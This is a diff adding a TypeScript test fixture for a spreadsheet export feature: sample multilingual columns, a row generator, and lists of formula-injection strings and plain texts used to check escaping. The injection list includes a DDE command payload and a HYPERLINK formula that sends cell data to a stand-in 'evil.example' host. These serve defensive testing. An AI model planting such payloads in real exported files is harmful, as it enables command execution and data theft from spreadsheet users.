@@ -1,0 +1,97 @@
+// For tests: a small file with a column of each kind, and what people try to smuggle into one.
+import type { WrittenColumn } from '@lebean/contract/export';
+import { textOf } from '@lebean/contract/export-words';
+import type { FileParts } from './handle-listing.ts';
+
+export interface Sample {
+  readonly text: string | null;
+  readonly amount: number | null;
+  readonly at: string | null;
+  readonly isOpen: boolean | null;
+}
+
+export const sampleColumns: readonly WrittenColumn<Sample>[] = [
+  { title: { zh: '文本', en: 'Text', es: 'Texto' }, kind: 'text', value: ({ text }) => text },
+  {
+    title: { zh: '金额', en: 'Amount', es: 'Importe' },
+    kind: 'hundredths',
+    value: ({ amount }) => amount,
+  },
+  { title: { zh: '数量', en: 'Count', es: 'Número' }, kind: 'integer', value: (row) => row.amount },
+  { title: { zh: '折扣', en: 'Share', es: 'Parte' }, kind: 'percent', value: (row) => row.amount },
+  { title: { zh: '时间', en: 'When', es: 'Cuándo' }, kind: 'instant', value: ({ at }) => at },
+  {
+    title: { zh: '状态', en: 'State', es: 'Estado' },
+    kind: 'word',
+    value: ({ isOpen }) =>
+      isOpen === null ? null : textOf((language) => `${language} ${isOpen ? 'open' : 'shut'}`),
+  },
+];
+
+/** Texts that spreadsheets have taken for formulas (W4). */
+export const formulas = [
+  '=1+1',
+  '+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '=cmd|" /C calc"!A0',
+  '=HYPERLINK("http://evil.example?x="&A1,"click")',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '\u00A0=1+1',
+  '\u3000=1+1',
+  '\uFEFF=1+1',
+  '-',
+];
+
+/** Texts that are no formulas and have to arrive as they are. */
+export const plainTexts = [
+  'plain',
+  'with, comma',
+  'with "quotes"',
+  'two\nlines',
+  'two\r\nlines',
+  ' blanks around ',
+  '欧阳娜娜',
+  '👩‍🚀🎮',
+  '<b>&amp;</b>',
+  '_x0041_ and _x005F_',
+  '7',
+  '0013',
+  '',
+  `long ${'x'.repeat(30_000)}`,
+];
+
+/** The parts of a file of sample rows. */
+export function sampleFile(
+  rows: readonly Partial<Sample>[],
+  wanted: Partial<Pick<FileParts<Sample>, 'language' | 'timeZone'>> = {},
+  partSize = 7,
+): FileParts<Sample> {
+  const empty: Sample = { text: null, amount: null, at: null, isOpen: null };
+  async function* parts(): AsyncGenerator<Sample[]> {
+    for (let from = 0; from < rows.length; from += partSize)
+      yield rows.slice(from, from + partSize).map((row) => ({ ...empty, ...row }));
+  }
+  return {
+    columns: sampleColumns,
+    title: 'Sample',
+    language: 'en',
+    timeZone: 'UTC',
+    ...wanted,
+    rows: parts(),
+  };
+}
+
+/** All pieces of a file as one. */
+export async function allOf(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
+  const found: Uint8Array[] = [];
+  for await (const piece of pieces) found.push(piece);
+  return Buffer.concat(found);
+}
